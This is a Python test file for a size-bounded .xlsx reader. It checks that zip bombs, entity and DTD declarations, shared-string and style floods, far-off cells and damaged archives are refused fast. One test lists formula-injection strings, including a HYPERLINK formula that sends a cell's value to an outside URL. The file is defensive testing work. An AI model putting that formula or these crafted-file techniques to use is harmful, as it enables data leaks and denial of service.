"""The bounded .xlsx reader: real workbooks read within their used range, crafted ones refused fast."""

from __future__ import annotations

import io
import time
import tracemalloc
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from kb.errors import KBError, TooLarge
from kb.sheets import SheetLimits, keep_text, read_workbook
from tests import hostile_files


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return hostile_files.zip_bomb()


def refused(data: bytes, **limits) -> tuple[KBError, float]:
    t0 = time.perf_counter()
    with pytest.raises(KBError) as exc:
        read_workbook(data, name="坏文件.xlsx", limits=SheetLimits(**limits))
    return exc.value, time.perf_counter() - t0


def test_an_ordinary_workbook_is_read_sheet_by_sheet_with_number_formats():
    wb = Workbook()
    wb.active.title = "项目一"
    wb.active.append(["三级指标", "指标值"])
    wb.active.append(["亮灯率", 0.98])
    wb.active["B2"].number_format = "0%"
    wb.create_sheet("空表")
    sheets = read_workbook(hostile_files.workbook_bytes(wb), formats=True)
    assert [s.title for s in sheets] == ["项目一", "空表"]
    first, empty = sheets
    assert first.values == [("三级指标", "指标值"), ("亮灯率", 0.98)]
    assert first.cell(2, 2).number_format == "0%" and first.cell(2, 2).coordinate == "B2"
    assert first.cell(99, 99).value is None and empty.is_blank()


def test_the_declared_dimension_is_ignored_for_the_cells_really_there():
    (sheet,) = read_workbook(hostile_files.lying_dimension())
    assert sheet.values == [("a", 2)]


def test_one_value_at_xfd1048576_is_refused_at_once_with_the_row_limit():
    error, seconds = refused(hostile_files.far_cell())
    assert isinstance(error, TooLarge) and error.status == 413
    assert "工作表“Sheet”第 1,048,576 行有内容" in error.message and "50,000 行的上限" in error.message
    assert seconds < 1


def test_a_value_past_the_last_column_is_refused_naming_the_cell():
    wb = Workbook()
    wb.active["A1"] = "x"
    wb.active["AZ3"] = "y"
    error, _ = refused(hostile_files.workbook_bytes(wb), max_columns=26)
    assert isinstance(error, TooLarge) and "AZ3 单元格有内容" in error.message and "26 列的上限" in error.message


def test_a_zip_bomb_is_refused_from_the_archive_before_parsing(bomb):
    assert len(bomb) < 5_000_000
    tracemalloc.start()
    try:
        error, seconds = refused(bomb)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert isinstance(error, TooLarge) and "解压后有 422.2 MB，超过 64 MB 的上限" in error.message
    assert seconds < 2 and peak < 20_000_000


def test_a_zip_directory_that_understates_the_size_does_not_get_past():
    error, seconds = refused(hostile_files.understated_bomb())
    assert error.status in (413, 422) and "坏文件.xlsx" in error.message and seconds < 5


def test_many_cells_under_the_size_limit_stop_at_the_cell_limit():
    data = hostile_files.zip_bomb(rows=3_000, columns=100)  # 300,000 cells, 6 MB of XML
    error, seconds = refused(data, max_cells=100_000)
    assert isinstance(error, TooLarge) and "100,000 个单元格的上限" in error.message and seconds < 3


@pytest.mark.parametrize("crafted", ["shared_strings_bomb", "styles_bomb"])
def test_a_flood_of_shared_strings_or_styles_is_refused_before_openpyxl_reads_it(crafted):
    data = getattr(hostile_files, crafted)()
    assert len(data) < 300_000
    error, seconds = refused(data, max_cells=200_000)
    assert isinstance(error, TooLarge) and ("工作表以外的部分" in error.message or "样式表有" in error.message)
    assert seconds < 2


def test_a_stylesheet_bloated_past_the_style_limit_is_refused_for_a_library_import_too():
    error, seconds = refused(hostile_files.styles_bomb())  # the library's limits: 1,000,000 cells
    assert isinstance(error, TooLarge) and "样式表有" in error.message and seconds < 2


def test_an_entity_declaration_is_refused():
    error, _ = refused(hostile_files.entity_bomb())
    assert error.status == 422 and "DTD" in error.message


def test_a_file_that_is_not_a_workbook_says_how_to_fix_it():
    error, _ = refused(b"PK\x03\x04 not really a zip")
    assert error.status == 422 and "另存为 .xlsx" in error.message


def test_a_part_whose_compressed_data_is_damaged_says_the_file_is_damaged():
    """A file cut or garbled in transfer: its zip directory reads, the deflated data of a sheet does not."""
    wb = Workbook()
    for _ in range(50):
        wb.active.append(["项目名称", "城区路灯维护"])
    data = bytearray(hostile_files.workbook_bytes(wb))
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    for k in range(start + 5, start + 15):
        data[k] ^= 0x5A
    error, _ = refused(bytes(data))
    assert error.status == 422 and "xl/worksheets/sheet1.xml 损坏" in error.message


def test_a_zip_claiming_a_version_no_tool_writes_says_the_file_is_not_a_workbook():
    data = bytearray(hostile_files.workbook_bytes(Workbook()))
    directory = data.index(b"PK\x01\x02")
    data[directory + 6] = 0xB2   # "version needed to extract": 17.8
    error, _ = refused(bytes(data))
    assert error.status == 422 and "另存为 .xlsx" in error.message


def test_a_part_flagged_as_encrypted_says_the_file_is_damaged():
    data = bytearray(hostile_files.workbook_bytes(Workbook()))
    directory = data.index(b"PK\x01\x02")
    data[directory + 8] |= 0x01   # general purpose flag: encrypted
    error, _ = refused(bytes(data))
    assert error.status == 422 and "损坏" in error.message


def test_a_dtd_behind_a_long_comment_is_refused_too():
    """The parser openpyxl uses (lxml once it is installed) may expand a DTD's entities wherever it stands."""
    source = zipfile.ZipFile(io.BytesIO(hostile_files.workbook_bytes(Workbook())))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename == "xl/styles.xml":
                body = b"<!--" + b"x" * 200_000 + b'--><!DOCTYPE s [<!ENTITY a "aaaaaaaaaa">]>' + body.split(b"?>", 1)[-1]
            z.writestr(info.filename, body)
    error, _ = refused(out.getvalue())
    assert error.status == 422 and "xl/styles.xml 含有 DTD 声明" in error.message


def test_written_text_stays_text_even_when_it_looks_like_a_formula():
    wb = Workbook()
    risky = ["=100%", '=HYPERLINK("http://example.com/?"&B2,"点击")', "#N/A", "+1", "-1", "@SUM(A1)"]
    wb.active.append(risky)
    keep_text(wb.active)
    data = hostile_files.workbook_bytes(wb)
    reopened = load_workbook(io.BytesIO(data))
    assert {c.data_type for c in reopened.active[1]} == {"s"}
    assert read_workbook(data)[0].values == [tuple(risky)]


def test_a_workbook_with_an_ordinary_number_of_shared_strings_is_read():
    (sheet,) = read_workbook(hostile_files.shared_strings_bomb(strings=50_000), limits=SheetLimits(max_cells=200_000))
    assert sheet.values == [("x",)]


def test_pictures_do_not_count_as_xml_elements():
    data = hostile_files._with_parts({}, {"xl/media/image1.png": lambda f: f.write(b"<" * 1_000_000)})
    (sheet,) = read_workbook(data, limits=SheetLimits(max_cells=200_000))
    assert sheet.values == [("x",)]
